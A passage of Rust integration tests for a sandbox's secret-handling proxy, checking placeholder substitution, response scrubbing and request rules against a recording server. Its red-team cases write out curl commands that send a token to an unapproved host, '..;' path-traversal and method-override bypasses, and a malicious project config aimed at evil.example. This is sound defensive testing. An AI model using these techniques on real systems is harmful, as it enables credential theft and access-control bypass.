//! Secrets at the door: placeholders inside, real values swapped in on the way out
//! to the secret's hosts only, TLS interception with a per-sandbox CA, request rules. Checked
//! against a recording HTTPS server in the test "internet" (`secrets_door/server.py`, its
//! certificate from the harness's test CA, which cordon gets through SSL_CERT_FILE): every
//! attack checks what the SERVER received, and has a legitimate twin.
use crate::common;

use common::net::*;
use common::*;
use serde_json::Value;
use std::path::PathBuf;
use std::process::{Command, Stdio};
use std::sync::OnceLock;
use std::time::Duration;

const SERVER_PY: &str = include_str!("secrets_door/server.py");
const HTTPS: u16 = 8443;
const HTTP: u16 = 8080;

/// The recording server's log (one per test binary).
fn server_log(net: &Internet) -> Result<&'static PathBuf, String> {
    static LOG: OnceLock<Result<PathBuf, String>> = OnceLock::new();
    LOG.get_or_init(|| {
        let script = net.dir.join("secrets-server.py");
        let log = net.dir.join(format!("secrets-{}.log", std::process::id()));
        std::fs::write(&script, SERVER_PY).map_err(|e| format!("write server: {e}"))?;
        std::fs::write(&log, "").map_err(|e| format!("create log: {e}"))?;
        let stderr = std::fs::File::create(net.dir.join("secrets-server.stderr"))
            .map_err(|e| format!("server stderr: {e}"))?;
        Command::new("timeout")
            .args(["900", "ip", "netns", "exec", NS, "python3"])
            .arg(&script)
            .arg(&log)
            .arg(net.dir.join("srv.pem"))
            .arg(net.dir.join("srv.key"))
            .arg(std::process::id().to_string())
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(stderr)
            .spawn()
            .map_err(|e| format!("start the recording server: {e}"))?;
        let ready = wait_for(Duration::from_secs(15), || {
            std::fs::read_to_string(&log).is_ok_and(|s| s.contains("\"ready\""))
        });
        if ready {
            Ok(log)
        } else {
            Err(format!(
                "the recording server did not start: {}",
                std::fs::read_to_string(net.dir.join("secrets-server.stderr")).unwrap_or_default()
            ))
        }
    })
    .as_ref()
    .map_err(Clone::clone)
}

/// One test: a sandbox home, a server address, a policy (network plus `extra`), an audit file.
struct T {
    t: NetTest,
    log: &'static PathBuf,
    pol: String,
    audit: PathBuf,
}

fn setup(test: &str, extra: &str) -> Option<T> {
    setup_with(test, |_| extra.to_string())
}

/// Like [`setup`], with policy text that depends on the test's directories.
fn setup_with(test: &str, extra: impl FnOnce(&NetTest) -> String) -> Option<T> {
    let t = NetTest::new(test)?;
    let extra = extra(&t);
    let log = match server_log(t.net) {
        Ok(l) => l,
        Err(e) => {
            skip(&format!("secrets_door::{test}"), &e);
            return None;
        }
    };
    let pol = t.policy(&format!(
        "[network]\nallow = [\"{NAME}:{HTTPS}\", \"{OTHER_NAME}:{HTTPS}\", \"{NAME}:{HTTP}\", \"{OTHER_NAME}:{HTTP}\"]\n\
         allow_cidrs = [\"{CIDR_ALL}\"]\nunknown = \"deny\"\n\n[network.hosts]\n\
         \"{NAME}\" = \"{ip}\"\n\"{OTHER_NAME}\" = \"{ip}\"\n\n{extra}",
        ip = t.ip
    ));
    let audit = t.sb.root.join("audit.jsonl");
    Some(T { t, log, pol, audit })
}

impl T {
    /// `cordon run -p POLICY --audit FILE -- bash -c SCRIPT` with `env` added to cordon's
    /// environment (the host side: where secrets come from) and the test CA as SSL_CERT_FILE.
    fn run(&self, env: &[(&str, &str)], script: &str) -> Out {
        let ca = self.t.sb.ws.join("ca.pem");
        let audit = self.audit.display().to_string();
        let out = self.t.sb.run_with(
            |c| {
                c.env("SSL_CERT_FILE", &ca);
                for (k, v) in env {
                    c.env(k, v);
                }
            },
            &["-p", &self.pol, "--audit", &audit],
            &["bash", "-c", &format!("echo {RAN}; {script}")],
        );
        assert_ran(out)
    }

    /// Requests the recording server logged at this test's address.
    fn requests(&self) -> Vec<Value> {
        std::thread::sleep(Duration::from_millis(300));
        std::fs::read_to_string(self.log)
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .filter(|r| r["dst"] == self.t.ip.as_str() && r["ev"] == "request")
            .collect()
    }

    /// The request for `path` (prefix), failing the test if the server never got it.
    fn request(&self, path: &str, out: &Out) -> Value {
        let all = self.requests();
        all.iter()
            .find(|r| r["path"].as_str().is_some_and(|p| p.starts_with(path)))
            .cloned()
            .unwrap_or_else(|| {
                panic!(
                    "the server never received {path}:\n{}\n{}",
                    show_records(&all),
                    out.show()
                )
            })
    }

    fn assert_never_received(&self, path: &str, out: &Out) {
        let hits: Vec<Value> = self
            .requests()
            .into_iter()
            .filter(|r| r["path"].as_str().is_some_and(|p| p.starts_with(path)))
            .collect();
        assert!(
            hits.is_empty(),
            "the server received {path}; cordon must have refused it:\n{}\n{}",
            show_records(&hits),
            out.show()
        );
    }

    fn audit(&self) -> Vec<Value> {
        audit_lines(&self.audit)
    }
}

/// A token shaped like a GitHub one, unique to the test.
fn real_token(tag: &str) -> String {
    let mut s = format!("ghp_Real{tag}");
    let mut i = 0;
    while s.len() < 40 {
        s.push((b'a' + (i % 26) as u8) as char);
        i += 1;
    }
    s.truncate(40);
    s
}

/// A bash snippet running curl, framed by `<<label` / `>>label` with `CODE=`.
fn curl(label: &str, args: &str) -> String {
    format!(
        "echo '<<{label}'; curl -sS --max-time 20 -w '\\nCODE=%{{http_code}}\\n' {args} 2>&1; \
         echo '>>{label}'\n"
    )
}

fn section<'a>(out: &'a Out, label: &str) -> &'a str {
    let start = format!("<<{label}\n");
    let Some(a) = out.stdout.find(&start) else {
        panic!("no output for {label}\n{}", out.show());
    };
    let rest = &out.stdout[a + start.len()..];
    rest.find(&format!(">>{label}"))
        .map_or(rest, |b| &rest[..b])
}

fn assert_code(out: &Out, label: &str, want: &str, why: &str) {
    let sec = section(out, label);
    let got = sec
        .lines()
        .rev()
        .find_map(|l| l.strip_prefix("CODE="))
        .unwrap_or("none");
    assert_eq!(
        got,
        want,
        "{why}: {label}\n--- {label} ---\n{sec}\n{}",
        out.show()
    );
}

fn secret_toml(name: &str, src_var: &str, hosts: &[&str], extra: &str) -> String {
    let hosts: Vec<String> = hosts.iter().map(|h| format!("{h:?}")).collect();
    format!(
        "[secrets.{name}]\nfrom_env = \"{src_var}\"\nhosts = [{}]\n{extra}\n",
        hosts.join(", ")
    )
}

fn decode_b64(s: &str) -> Vec<u8> {
    let val = |c: u8| -> u32 {
        match c {
            b'A'..=b'Z' => (c - b'A') as u32,
            b'a'..=b'z' => (c - b'a' + 26) as u32,
            b'0'..=b'9' => (c - b'0' + 52) as u32,
            b'+' => 62,
            _ => 63,
        }
    };
    let b: Vec<u8> = s.bytes().filter(|c| *c != b'=').collect();
    let mut out = Vec::new();
    for ch in b.chunks(4) {
        let mut n = 0u32;
        for (i, c) in ch.iter().enumerate() {
            n |= val(*c) << (18 - 6 * i);
        }
        out.extend_from_slice(&[(n >> 16) as u8, (n >> 8) as u8, n as u8][..ch.len() - 1]);
    }
    out
}

// ---------------------------------------------------------------- substitution

#[test]
fn bearer_header_gets_the_real_value_and_responses_are_scrubbed() {
    let real = real_token("Bearer");
    let Some(t) = setup(
        "sec-bearer",
        &secret_toml("GITHUB_TOKEN", "CIT_SRC_BEARER", &[NAME], ""),
    ) else {
        return;
    };
    let script = format!(
        "echo \"PH=$GITHUB_TOKEN\"\n{}{}",
        curl(
            "bearer",
            &format!("-H \"Authorization: Bearer $GITHUB_TOKEN\" https://{NAME}:{HTTPS}/bearer-1")
        ),
        curl(
            "echo",
            &format!("-i -H \"Authorization: Bearer $GITHUB_TOKEN\" https://{NAME}:{HTTPS}/echo-1")
        ),
    );
    let out = t.run(&[("CIT_SRC_BEARER", &real)], &script);
    assert_code(&out, "bearer", "200", "a request to the secret's host");
    let ph = out
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("PH="))
        .unwrap_or_default()
        .to_string();
    assert!(
        ph.starts_with("ghp_") && ph.len() == real.len() && ph != real,
        "the sandbox must hold a placeholder shaped like the token, got {ph:?}\n{}",
        out.show()
    );
    let r = t.request("/bearer-1", &out);
    assert_eq!(
        r["headers"]["authorization"],
        format!("Bearer {real}").as_str(),
        "the server must receive the real value\n{}",
        out.show()
    );
    // The server echoes the real value back; the sandbox must see only the placeholder.
    let echo = section(&out, "echo");
    assert!(
        echo.contains(&format!("echo-auth=Bearer {ph}")) && echo.contains(&format!("Bearer {ph}")),
        "the echoed value must come back as the placeholder\n{}",
        out.show()
    );
    assert!(
        !out.all().contains(&real),
        "the real value reached the sandbox's output\n{}",
        out.show()
    );
    let audit = std::fs::read_to_string(&t.audit).unwrap_or_default();
    assert!(
        !audit.contains(&real) && !audit.contains(&ph),
        "audit holds a value: {audit}"
    );
}

#[test]
fn git_basic_auth_gets_the_real_token() {
    let real = real_token("GitBasic");
    let Some(t) = setup(
        "sec-git",
        &secret_toml("GITHUB_TOKEN", "CIT_SRC_GIT", &[NAME], ""),
    ) else {
        return;
    };
    let script = format!(
        "GIT_TERMINAL_PROMPT=0 git ls-remote \"https://x:$GITHUB_TOKEN@{NAME}:{HTTPS}/git/r.git\" 2>&1; echo \"GIT=$?\""
    );
    let out = t.run(&[("CIT_SRC_GIT", &real)], &script);
    let reqs = t.requests();
    let basic: Vec<Vec<u8>> = reqs
        .iter()
        .filter_map(|r| r["headers"]["authorization"].as_str())
        .filter_map(|a| a.strip_prefix("Basic "))
        .map(decode_b64)
        .collect();
    assert!(
        reqs.iter().any(|r| r["headers"]["authorization"].is_null()),
        "git should first try without credentials (401 challenge)\n{}",
        show_records(&reqs)
    );
    assert!(
        basic.iter().any(|c| c == format!("x:{real}").as_bytes()),
        "the server must receive Basic x:REAL from git\n{}\n{}",
        show_records(&reqs),
        out.show()
    );
    assert!(
        out.stdout.contains("refs/heads/main") && out.stdout.contains("GIT=0"),
        "git ls-remote should succeed through the door\n{}",
        out.show()
    );
}

#[test]
fn query_parameter_swapped_only_when_in_query() {
    let real_q = real_token("QueryYes");
    let real_n = real_token("QueryNot");
    let extra = format!(
        "{}{}",
        secret_toml("TOK_Q", "CIT_SRC_Q", &[NAME], "in_query = true"),
        secret_toml("TOK_N", "CIT_SRC_N", &[NAME], "")
    );
    let Some(t) = setup("sec-query", &extra) else {
        return;
    };
    let script = format!(
        "echo \"PHN=$TOK_N\"\n{}{}",
        curl(
            "q",
            &format!("\"https://{NAME}:{HTTPS}/q-yes?token=$TOK_Q\"")
        ),
        curl(
            "n",
            &format!("\"https://{NAME}:{HTTPS}/q-not?token=$TOK_N\"")
        ),
    );
    let out = t.run(&[("CIT_SRC_Q", &real_q), ("CIT_SRC_N", &real_n)], &script);
    assert_code(&out, "q", "200", "query with in_query");
    assert_code(&out, "n", "200", "query without in_query");
    let r = t.request("/q-yes", &out);
    assert_eq!(r["path"], format!("/q-yes?token={real_q}").as_str());
    let phn = out
        .stdout
        .lines()
        .find_map(|l| l.strip_prefix("PHN="))
        .unwrap_or_default();
    let r = t.request("/q-not", &out);
    assert_eq!(
        r["path"],
        format!("/q-not?token={phn}").as_str(),
        "without in_query the placeholder passes unchanged"
    );
    assert!(!r["path"].as_str().unwrap_or("").contains(&real_n));
}

/// Red team: `curl -u x:$TOKEN` makes cordon put base64("x:REAL") in the Basic header; an
/// endpoint that reflects that header hands the sandbox the real value in base64, which
/// the plain scrub (looking for REAL itself) misses. Every base64 alignment is scrubbed.
#[test]
fn reflected_basic_credentials_do_not_return_the_real_value() {
    let real = real_token("BasicEcho");
    let Some(t) = setup(
        "sec-basic-echo",
        &secret_toml("GITHUB_TOKEN", "CIT_SRC_BECHO", &[NAME], ""),
    ) else {
        return;
    };
    // Three user names shift the token through the three base64 alignments.
    let mut script = String::new();
    for u in ["x", "xy", "xyz"] {
        script.push_str(&curl(
            u,
            &format!("-i -u \"{u}:$GITHUB_TOKEN\" https://{NAME}:{HTTPS}/echo-basic-{u}"),
        ));
    }
    let out = t.run(&[("CIT_SRC_BECHO", &real)], &script);
    let reqs = t.requests();
    for u in ["x", "xy", "xyz"] {
        assert_code(&out, u, "200", "Basic credentials to the secret's host");
        // Legitimate twin: the server got the real value.
        let r = t.request(&format!("/echo-basic-{u}"), &out);
        let got = r["headers"]["authorization"]
            .as_str()
            .and_then(|a| a.strip_prefix("Basic "))
            .map(decode_b64)
            .unwrap_or_default();
        assert_eq!(
            got,
            format!("{u}:{real}").as_bytes(),
            "the server must receive Basic {u}:REAL\n{}",
            show_records(&reqs)
        );
        // Attack: whatever came back, decoded, must not hold the real value.
        for line in section(&out, u).lines() {
            for word in line.split_whitespace() {
                let dec = String::from_utf8_lossy(&decode_b64(word)).to_string();
                assert!(
                    !dec.contains(&real),
                    "the reflected Basic header gave the sandbox the real value ({u})\n{}",
                    out.show()
                );
            }
        }
    }
}

/// Red team: a server that reflects the header into the status line's reason phrase; the
/// phrase is passed on as it came, so it must not carry the real value.
#[test]
fn reflected_in_the_reason_phrase_does_not_return_the_real_value() {
    let real = real_token("Reason");
    let Some(t) = setup(
        "sec-reason",
        &secret_toml("GITHUB_TOKEN", "CIT_SRC_REASON", &[NAME], ""),
    ) else {
        return;
    };
    let script = curl(
        "reason",
        &format!("-i -H \"Authorization: Bearer $GITHUB_TOKEN\" https://{NAME}:{HTTPS}/reason-1"),
    );
    let out = t.run(&[("CIT_SRC_REASON", &real)], &script);
    assert_code(&out, "reason", "200", "a request to the secret's host");
    let r = t.request("/reason-1", &out);
    assert_eq!(
        r["headers"]["authorization"],
        format!("Bearer {real}").as_str(),
        "the server must receive the real value\n{}",
        out.show()
    );
    assert!(
        !out.all().contains(&real),
        "the real value came back in the status line\n{}",
        out.show()
    );
}

// ---------------------------------------------------------------- exfiltration

#[test]
fn placeholder_to_another_host_is_refused_and_audited() {
    let real = real_token("Exfil");
    // other.test.example is allowed by the network policy and intercepted (it has request
    // rules), but it is not among the secret's hosts.
    let extra = format!(
        "{}[requests.\"{OTHER_NAME}\"]\nallow = [\"* /**\"]\n",
        secret_toml("GITHUB_TOKEN", "CIT_SRC_EXFIL", &[NAME], "in_body = true")
    );
    let Some(t) = setup("sec-exfil", &extra) else {
        return;
    };
    let script = format!(
        "{}{}{}{}{}",
        curl(
            "header",
            &format!("-H \"Authorization: Bearer $GITHUB_TOKEN\" https://{OTHER_NAME}:{HTTPS}/exfil-header")
        ),
        curl(
            "basic",
            &format!("-u \"x:$GITHUB_TOKEN\" https://{OTHER_NAME}:{HTTPS}/exfil-basic")
        ),
        curl(
            "body",
            &format!("--data-binary \"leak=$GITHUB_TOKEN\" https://{OTHER_NAME}:{HTTPS}/exfil-body")
        ),
        curl(
            "plain",
            &format!("\"http://{OTHER_NAME}:{HTTP}/exfil-plain?t=$GITHUB_TOKEN\"")
        ),
        curl(
            "twin",
            &format!("-H \"Authorization: Bearer not-a-secret\" https://{OTHER_NAME}:{HTTPS}/exfil-twin")
        ),
    );
    let out = t.run(&[("CIT_SRC_EXFIL", &real)], &script);
    for label in ["header", "basic", "body", "plain"] {
        assert_code(
            &out,
            label,
            "403",
            "a placeholder sent to a host not in hosts",
        );
        assert!(
            section(&out, label).contains("exfiltration"),
            "the refusal should say why\n{}",
            out.show()
        );
        t.assert_never_received(&format!("/exfil-{label}"), &out);
    }
    assert_code(
        &out,
        "twin",
        "200",
        "the same request without a placeholder",
    );
    t.request("/exfil-twin", &out);
    let audit = t.audit();
    let exfil = audit
        .iter()
        .filter(|l| {
            l["event"] == "net"
                && l["decision"] == "deny"
                && l["rule"] == "secrets: exfiltration"
                && l["reason"]
                    .as_str()
                    .is_some_and(|r| r.contains("GITHUB_TOKEN"))
        })
        .count();
    assert!(
        exfil >= 4,
        "each attempt must be audited as exfiltration:\n{}",
        audit.iter().map(|l| format!("  {l}\n")).collect::<String>()
    );
    let raw = std::fs::read_to_string(&t.audit).unwrap_or_default();
    assert!(!raw.contains(&real), "the audit log holds the real value");
}

#[test]
fn plaintext_to_the_secret_host_is_refused_without_allow_plaintext() {
    let real = real_token("Plain");
    let extra = format!(
        "{}{}",
        secret_toml("TOK_TLS", "CIT_SRC_P1", &[NAME], ""),
        secret_toml("TOK_PLAIN", "CIT_SRC_P2", &[NAME], "allow_plaintext = true")
    );
    let Some(t) = setup("sec-plain", &extra) else {
        return;
    };
    let script = format!(
        "{}{}",
        curl(
            "tls-only",
            &format!("-H \"Authorization: Bearer $TOK_TLS\" http://{NAME}:{HTTP}/plain-refused")
        ),
        curl(
            "plain-ok",
            &format!("-H \"Authorization: Bearer $TOK_PLAIN\" http://{NAME}:{HTTP}/plain-allowed")
        ),
    );
    let out = t.run(
        &[("CIT_SRC_P1", &real), ("CIT_SRC_P2", &real_token("Plain2"))],
        &script,
    );
    assert_code(
        &out,
        "tls-only",
        "403",
        "plain HTTP without allow_plaintext",
    );
    t.assert_never_received("/plain-refused", &out);
    assert_code(&out, "plain-ok", "200", "plain HTTP with allow_plaintext");
    let r = t.request("/plain-allowed", &out);
    assert_eq!(
        r["headers"]["authorization"],
        format!("Bearer {}", real_token("Plain2")).as_str()
    );
}

#[test]
fn query_parameter_swapped_over_plain_http_when_allowed() {
    let real = real_token("PlainQuery");
    let extra = secret_toml(
        "TOK_PQ",
        "CIT_SRC_PQ",
        &[NAME],
        "allow_plaintext = true\nin_query = true",
    );
    let Some(t) = setup("sec-plain-query", &extra) else {
        return;
    };
    let script = curl("pq", &format!("\"http://{NAME}:{HTTP}/pq?token=$TOK_PQ\""));
    let out = t.run(&[("CIT_SRC_PQ", &real)], &script);
    assert_code(&out, "pq", "200", "plain HTTP query with in_query");
    let r = t.request("/pq", &out);
    assert_eq!(r["path"], format!("/pq?token={real}").as_str());
}

// ---------------------------------------------------------------- the sandbox's view

#[test]
fn real_value_is_nowhere_in_the_sandbox() {
    let real = real_token("Hidden");
    let Some(t) = setup(
        "sec-hidden",
        &secret_toml("GITHUB_TOKEN", "CIT_SRC_HIDDEN", &[NAME], ""),
    ) else {
        return;
    };
    // The needle is assembled at run time: the script's own command line must not hold it.
    let (a, b) = real.split_at(20);
    let py = format!(
        r#"
import os, subprocess
needle = ("{a}" + "{b}").encode()
bg = subprocess.Popen(["sleep", "30"])
found = []
for k, v in os.environ.items():
    if needle in v.encode():
        found.append("env:" + k)
procs = 0
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    procs += 1
    for f in ("environ", "cmdline"):
        try:
            with open("/proc/%s/%s" % (pid, f), "rb") as fh:
                if needle in fh.read():
                    found.append("/proc/%s/%s" % (pid, f))
        except OSError:
            pass
files = 0
for root in ("/run", "/tmp", os.environ["HOME"]):
    for dp, dn, fn in os.walk(root):
        for n in fn:
            p = os.path.join(dp, n)
            try:
                if os.path.islink(p) or not os.path.isfile(p) or os.path.getsize(p) > 50000000:
                    continue
                with open(p, "rb") as fh:
                    files += 1
                    if needle in fh.read():
                        found.append(p)
            except OSError:
                pass
bg.kill()
print("FOUND=" + ",".join(found))
print("PROCS=%d FILES=%d" % (procs, files))
print("PH=" + os.environ.get("GITHUB_TOKEN", ""))
"#
    );
    let out = t.run(
        &[("CIT_SRC_HIDDEN", &real)],
        &format!("python3 -c '{}'", py.replace('\'', "'\\''")),
    );
    let line = |k: &str| {
        out.stdout
            .lines()
            .find_map(|l| l.strip_prefix(k))
            .unwrap_or_else(|| panic!("no {k} line\n{}", out.show()))
            .to_string()
    };
    assert_eq!(
        line("FOUND="),
        "",
        "the real value is visible inside\n{}",
        out.show()
    );
    let ph = line("PH=");
    assert!(ph.starts_with("ghp_") && ph.len() == real.len() && ph != real);
    let counts = line("PROCS=");
    assert!(
        !counts.starts_with("0 ") && !counts.ends_with("FILES=0"),
        "the scan must have looked at processes and files: {counts}"
    );
    assert!(!out.all().contains(&real));
}

#[test]
fn inject_file_and_env_modes_are_explicit_and_warned() {
    let real_f = real_token("InFile");
    let real_e = real_token("InEnv");
    let extra = format!(
        "{}{}",
        secret_toml("TOK_F", "CIT_SRC_F", &[NAME], "inject = \"file\""),
        secret_toml("TOK_E", "CIT_SRC_E", &[NAME], "inject = \"env\"")
    );
    let Some(t) = setup("sec-inject", &extra) else {
        return;
    };
    let script = "echo \"FILEVAR=$TOK_F_FILE\"; echo \"F=$(cat \"$TOK_F_FILE\")\"; echo \"E=$TOK_E\"; echo \"FNOENV=${TOK_F:-unset}\"";
    let out = t.run(&[("CIT_SRC_F", &real_f), ("CIT_SRC_E", &real_e)], script);
    assert!(
        out.stdout.contains("FILEVAR=/run/cordon/secrets/TOK_F"),
        "{}",
        out.show()
    );
    assert!(
        out.stdout.contains(&format!("F={real_f}")),
        "{}",
        out.show()
    );
    assert!(
        out.stdout.contains(&format!("E={real_e}")),
        "{}",
        out.show()
    );
    assert!(out.stdout.contains("FNOENV=unset"), "{}", out.show());
    assert!(
        out.stderr.contains("secret TOK_F is inside the sandbox")
            && out.stderr.contains("secret TOK_E is inside the sandbox"),
        "weaker modes must be warned about\n{}",
        out.show()
    );
}

// ---------------------------------------------------------------- request rules

#[test]
fn request_rules_refuse_what_is_not_listed() {
    let extra =
        format!("[requests.\"{NAME}\"]\nallow = [\"GET /**\", \"POST /repos/acme/*/pulls\"]\n");
    let Some(t) = setup("sec-rules", &extra) else {
        return;
    };
    let script = format!(
        "{}{}{}{}",
        curl("get", &format!("https://{NAME}:{HTTPS}/anything/here")),
        curl(
            "pr",
            &format!("-X POST -d x=1 https://{NAME}:{HTTPS}/repos/acme/web/pulls")
        ),
        curl(
            "gist",
            &format!("-X POST -d x=1 https://{NAME}:{HTTPS}/gists")
        ),
        curl(
            "sneak",
            &format!(
                "-X POST -d x=1 --path-as-is https://{NAME}:{HTTPS}/repos/acme/x/../../evil/pulls"
            )
        ),
    );
    let out = t.run(&[], &script);
    assert_code(&out, "get", "200", "GET /** is allowed");
    assert_code(&out, "pr", "200", "POST to a listed path");
    t.request("/anything/here", &out);
    t.request("/repos/acme/web/pulls", &out);
    assert_code(&out, "gist", "403", "POST not listed");
    let gist = section(&out, "gist");
    assert!(
        gist.contains(&format!("[requests.\"{NAME}\"]")) && gist.contains("POST /gists"),
        "the 403 must name the table, the method and the path\n{gist}"
    );
    assert_code(&out, "sneak", "403", "dot segments on a host with rules");
    t.assert_never_received("/gists", &out);
    t.assert_never_received("/repos/acme/x/..", &out);
    t.assert_never_received("/evil", &out);
}

/// Red team: `..;` is a dot segment to servers that strip path parameters before
/// normalising (Tomcat, Jetty, Spring), so `/public/..;/admin` passed a `GET /public/**`
/// rule and reached `/admin` there. Segments are judged without their parameters.
#[test]
fn dot_segments_with_path_parameters_are_refused_on_hosts_with_rules() {
    let extra = format!("[requests.\"{NAME}\"]\nallow = [\"GET /public/**\"]\n");
    let Some(t) = setup("sec-rules-semi", &extra) else {
        return;
    };
    let script = format!(
        "{}{}{}",
        curl(
            "semi",
            &format!("--path-as-is \"https://{NAME}:{HTTPS}/public/..;/admin-semi\"")
        ),
        curl(
            "semi2",
            &format!("--path-as-is \"https://{NAME}:{HTTPS}/public/.;x=1/..;y=2/admin-semi2\"")
        ),
        curl(
            "twin",
            &format!("--path-as-is \"https://{NAME}:{HTTPS}/public/a;v=1/twin\"")
        ),
    );
    let out = t.run(&[], &script);
    assert_code(&out, "semi", "403", "`..;` on a host with rules");
    assert_code(
        &out,
        "semi2",
        "403",
        "`.;x` and `..;y` on a host with rules",
    );
    t.assert_never_received("/public/..;/admin-semi", &out);
    t.assert_never_received("/public/.;x=1/..;y=2/admin-semi2", &out);
    assert_code(
        &out,
        "twin",
        "200",
        "a path parameter on an ordinary segment",
    );
    t.request("/public/a;v=1/twin", &out);
}

/// Red team: `X-HTTP-Method-Override` makes many frameworks (and Google's APIs) treat an
/// allowed `POST` as a `DELETE` or `PUT`; the rules judged only the request line. On a host
/// with rules, method-override headers are refused.
#[test]
fn method_override_headers_are_refused_on_hosts_with_rules() {
    let extra =
        format!("[requests.\"{NAME}\"]\nallow = [\"GET /**\", \"POST /repos/acme/*/pulls\"]\n");
    let Some(t) = setup("sec-rules-override", &extra) else {
        return;
    };
    let mut script = String::new();
    for (label, h) in [
        ("o1", "X-HTTP-Method-Override: DELETE"),
        ("o2", "X-HTTP-Method: DELETE"),
        ("o3", "x-method-override: PUT"),
    ] {
        script.push_str(&curl(
            label,
            &format!(
                "-X POST -d x=1 -H \"{h}\" https://{NAME}:{HTTPS}/repos/acme/web/pulls?{label}"
            ),
        ));
    }
    script.push_str(&curl(
        "twin",
        &format!("-X POST -d x=1 https://{NAME}:{HTTPS}/repos/acme/web/pulls?twin"),
    ));
    let out = t.run(&[], &script);
    for label in ["o1", "o2", "o3"] {
        assert_code(&out, label, "403", "a method override on a host with rules");
        t.assert_never_received(&format!("/repos/acme/web/pulls?{label}"), &out);
    }
    assert_code(&out, "twin", "200", "the same POST without an override");
    t.request("/repos/acme/web/pulls?twin", &out);
}

// ---------------------------------------------------------------- sources

#[test]
fn from_command_with_ttl_is_fetched_again() {
    let Some(t) = setup_with("sec-ttl", |t| {
        let counter = t.sb.root.join("counter");
        t.sb.write_host(&counter, "0");
        // Prints a fresh value each run (a counter kept in a file on the host).
        let cmd = format!(
            "n=$(cat {c}); n=$((n+1)); echo $n > {c}; printf 'ttltoken-%012d\\n' $n",
            c = counter.display()
        );
        format!(
            "[secrets.TTL_TOKEN]\nfrom_command = [\"sh\", \"-c\", {cmd:?}]\nttl = 1\nhosts = [\"{NAME}\"]\n"
        )
    }) else {
        return;
    };
    let script = format!(
        "{}sleep 2.5\n{}",
        curl(
            "first",
            &format!("-H \"X-Token: $TTL_TOKEN\" https://{NAME}:{HTTPS}/ttl-1")
        ),
        curl(
            "second",
            &format!("-H \"X-Token: $TTL_TOKEN\" https://{NAME}:{HTTPS}/ttl-2")
        ),
    );
    let out = t.run(&[], &script);
    assert_code(&out, "first", "200", "first request");
    assert_code(&out, "second", "200", "second request");
    let token = |path: &str| {
        t.request(path, &out)["headers"]["x-token"]
            .as_str()
            .unwrap_or("")
            .to_string()
    };
    let (v1, v2) = (token("/ttl-1"), token("/ttl-2"));
    let n = |v: &str| {
        v.strip_prefix("ttltoken-")
            .and_then(|d| d.parse::<u32>().ok())
    };
    assert!(
        matches!((n(&v1), n(&v2)), (Some(a), Some(b)) if b > a),
        "the second request must carry a fresher value: {v1:?} then {v2:?}\n{}",
        out.show()
    );
}

/// Red team: a response scrubbed after the value was refreshed (ttl) was scrubbed of the new
/// value only, so a slow response reflecting the old one handed it back. Earlier values are
/// scrubbed too.
#[test]
fn a_refreshed_secret_is_still_scrubbed_from_slow_responses() {
    let Some(t) = setup_with("sec-ttl-slow", |t| {
        let counter = t.sb.root.join("counter");
        t.sb.write_host(&counter, "0");
        let cmd = format!(
            "n=$(cat {c}); n=$((n+1)); echo $n > {c}; printf 'ttltoken-%012d\\n' $n",
            c = counter.display()
        );
        format!(
            "[secrets.TTL_TOKEN]\nfrom_command = [\"sh\", \"-c\", {cmd:?}]\nttl = 1\nhosts = [\"{NAME}\"]\n"
        )
    }) else {
        return;
    };
    let script = format!(
        "( {} ) > slow.out 2>&1 &\nsleep 1.8\n{}wait\ncat slow.out\n",
        curl(
            "slow",
            &format!(
                "-i -H \"Authorization: Bearer $TTL_TOKEN\" https://{NAME}:{HTTPS}/echo-slow-1"
            )
        ),
        curl(
            "fresh",
            &format!("-H \"X-Token: $TTL_TOKEN\" https://{NAME}:{HTTPS}/ttl-fresh")
        ),
    );
    let out = t.run(&[], &script);
    assert_code(&out, "slow", "200", "the slow request");
    assert_code(&out, "fresh", "200", "the request that refreshes the value");
    let v1 = t.request("/echo-slow-1", &out)["headers"]["authorization"]
        .as_str()
        .and_then(|a| a.strip_prefix("Bearer "))
        .unwrap_or("")
        .to_string();
    let v2 = t.request("/ttl-fresh", &out)["headers"]["x-token"]
        .as_str()
        .unwrap_or("")
        .to_string();
    assert!(
        v1.starts_with("ttltoken-") && v2.starts_with("ttltoken-") && v1 != v2,
        "the value must have been refreshed in between: {v1:?} then {v2:?}\n{}",
        out.show()
    );
    assert!(
        !out.all().contains(&v1),
        "the old real value came back to the sandbox\n{}",
        out.show()
    );
}

#[test]
fn project_policy_defining_a_secret_is_refused() {
    let sb = Sandbox::new("sec-project");
    sb.write_host(
        &sb.ws.join(".cordon.toml"),
        "[secrets.GITHUB_TOKEN]\nfrom_command = [\"sh\", \"-c\", \"touch /tmp/cit-ran-from-project\"]\nhosts = [\"evil.example\"]\n",
    );
    let out = sb.run(&["true"]);
    assert_eq!(
        out.code,
        125,
        "a project secret must stop the run\n{}",
        out.show()
    );
    assert!(
        out.stderr.contains("may not define secrets") && out.stderr.contains(".cordon.toml:1:"),
        "the error must say where and why\n{}",
        out.show()
    );
    assert!(!std::path::Path::new("/tmp/cit-ran-from-project").exists());
    let check = sb.cordon(&[
        "policy",
        "check",
        &sb.ws.join(".cordon.toml").display().to_string(),
    ]);
    assert_ne!(
        check.code,
        0,
        "`policy check` must refuse it too\n{}",
        check.show()
    );
    assert!(
        check.stderr.contains("may not define secrets"),
        "{}",
        check.show()
    );
}

#[test]
fn missing_source_stops_the_run_naming_the_secret() {
    let sb = Sandbox::new("sec-missing");
    let p = sb.root.join("missing.toml");
    sb.write_host(
        &p,
        "[secrets.MISSING_TOK]\nfrom_env = \"CIT_NOT_SET_ANYWHERE\"\nhosts = [\"api.example.com\"]\n\
         [secrets.OTHER_TOK]\nfrom_file = \"/nonexistent/cit-token\"\nhosts = [\"api.example.com\"]\n",
    );
    let out = sb.run_opts(&["-p", &p.display().to_string()], &["true"]);
    assert_eq!(out.code, 125, "{}", out.show());
    assert!(
        out.stderr.contains("MISSING_TOK") && out.stderr.contains("CIT_NOT_SET_ANYWHERE"),
        "the error must name the secret and its source\n{}",
        out.show()
    );
    let q = sb.root.join("file.toml");
    sb.write_host(
        &q,
        "[secrets.OTHER_TOK]\nfrom_file = \"/nonexistent/cit-token\"\nhosts = [\"api.example.com\"]\n",
    );
    let out = sb.run_opts(&["-p", &q.display().to_string()], &["true"]);
    assert_eq!(out.code, 125, "{}", out.show());
